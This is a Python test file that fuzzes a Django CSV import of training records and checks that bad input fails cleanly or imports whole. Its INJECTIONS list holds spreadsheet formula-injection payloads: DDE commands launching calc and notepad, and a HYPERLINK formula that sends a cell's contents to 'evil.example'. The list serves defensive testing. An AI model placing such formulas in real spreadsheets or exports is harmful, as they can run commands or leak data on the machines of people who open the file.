"""Whatever bytes arrive, an import answers with problems or counts: never a traceback, never half a file."""

import csv
import io
import re

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from tests.imports.helpers import TRAINING_HEADER, csv_bytes, run_import, written
from training.models import TrainingRecord

pytestmark = pytest.mark.django_db

ROWS = [
    ["E2", "BTEC2-CSC", "2021-03-01", "Pearson BTEC", "PRS-1", ""],
    ["E2", "HC-REFRESHER", "30/04/2024", "In-house", "", "notes"],
    ["E3", "BTEC3-CSCNM", "2019-06-01", "Pearson BTEC", "PRS-2", "a previous job"],
]
VALID = csv_bytes(TRAINING_HEADER, ROWS)
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "\t=1+1",
]
PROBLEM = re.compile(r"row \d+: [^:]+: .+")


def data_rows(content: bytes) -> int:
    """Non-blank rows below the headings, as a spreadsheet shows them: a quoted cell may span lines."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig", "replace"), newline="")))[1:]
    return sum(1 for cells in rows if "".join(cells).strip(", \r\t"))


def with_cell(row: int, column: int, value: str) -> bytes:
    rows = [list(r) for r in ROWS]
    rows[row][column] = value
    return csv_bytes(TRAINING_HEADER, rows)


malformed = st.one_of(
    st.binary(max_size=600),
    st.integers(0, len(VALID)).map(lambda n: VALID[:n]),
    st.tuples(st.integers(0, len(VALID)), st.binary(min_size=1, max_size=40)).map(
        lambda t: VALID[: t[0]] + t[1] + VALID[t[0] :]
    ),
    st.tuples(
        st.integers(0, len(VALID) - 1), st.sampled_from([b'"', b",", b"\n", b"\r", b"\x00", b"\xff", b"\\"])
    ).map(lambda t: VALID[: t[0]] + t[1] + VALID[t[0] :]),
    st.tuples(st.integers(0, 2), st.integers(0, 5), st.sampled_from(INJECTIONS)).map(lambda t: with_cell(*t)),
    st.tuples(st.integers(0, 2), st.integers(0, 5), st.integers(150, 300_000)).map(
        lambda t: with_cell(t[0], t[1], "x" * t[2])
    ),
    st.tuples(st.integers(0, 2), st.integers(0, 5), st.text(max_size=30)).map(lambda t: with_cell(*t)),
)


def test_malformed_csv_is_rejected_cleanly_or_imported_whole(org, tmp_path):
    @settings(
        max_examples=120,
        deadline=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
        ],
    )
    @given(malformed)
    # Examples a random run once found, run on every run (CI's runs are derandomised: tests/conftest.py).
    @example(b"!\xc2\x85!")  # a heading holding U+0085 NEXT LINE, which printed one problem on two lines
    @example(VALID.replace(b"course", "cour\u2028se".encode()))  # LINE SEPARATOR in a heading
    @example(with_cell(1, 1, "HC-\u2029REFRESHER\x85\x0b"))  # paragraph separator and others in a value
    @example(with_cell(0, 2, "2021-03-01\x1c"))  # a file separator after a date
    @example(with_cell(2, 0, "E3\r"))  # a carriage return inside a quoted cell: one row on two lines
    @example(VALID.replace(b"PRS-1,\r\n", b'PRS-1,"\r\r,,,,\r\n'))  # an unclosed quote: the rest is one cell
    def check(content):
        before = written()
        run = run_import("import_training", tmp_path, content)  # anything but CommandError propagates
        if run.code == 1:
            assert run.lines and all(PROBLEM.fullmatch(line) for line in run.lines), run.lines
            assert written() == before
        else:
            assert run.code == 0
            created, updated, unchanged = map(
                int, re.fullmatch(r"created (\d+), updated (\d+), unchanged (\d+)", run.last).groups()
            )
            assert TrainingRecord.objects.count() == len(before["records"]) + created
            assert created + updated + unchanged == data_rows(content)

    check()
